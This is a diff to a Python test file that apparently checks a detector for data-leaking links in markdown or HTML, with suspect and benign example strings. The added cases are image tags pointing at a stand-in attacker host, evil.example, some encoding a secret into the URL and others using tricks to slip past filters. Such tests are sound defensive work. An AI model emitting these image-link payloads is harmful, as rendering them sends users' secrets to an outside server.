@@ -30,6 +30,12 @@ def decision(
         f"![x](https://evil.example/l.png?d={b64encode(SECRET.encode()).decode()})",
         f"![x](https://evil.example/l.png?d={SECRET.encode().hex()})",
         "[more](https://evil.example/?q={notes})",
+        "![build](https://evil.example/pypi/v/x?style=flat-square)",  # none can tell what its path says
+        "![logo](https:evil.example/l.png)",
+        "![logo](https://evil.example/The-launch-code-is-7431.png)",
+        "![logo](//evil.example/l.png)",
+        "![logo](HTTP://evil.example/l.png)",
+        "<IMG SRC=' https://evil.example/l.png'>",
         {"rows": [{"note": f"see {PICTURE}"}]},
     ],
 )
@@ -46,7 +52,6 @@ def test_it_is_asked_about_with_a_reason_that_says_what_was_found(text: Json) ->
     [
         "See [the guide](https://docs.example.org/guide.html#install) and https://example.org.",
         "[search](https://example.org/search?q=the+long+way+home+from+the+station)",
-        "![build](https://img.shields.io/pypi/v/x?label=pypi%20package&style=flat-square&color=%2334D058)",
         "![map](/pictures/the%20old%20map%20of%20the%20town.png)",
         "![dot](data:image/png;base64,iVBORw0KGgo=)",
         "`![logo](https://evil.example/{x})` is how it is done",
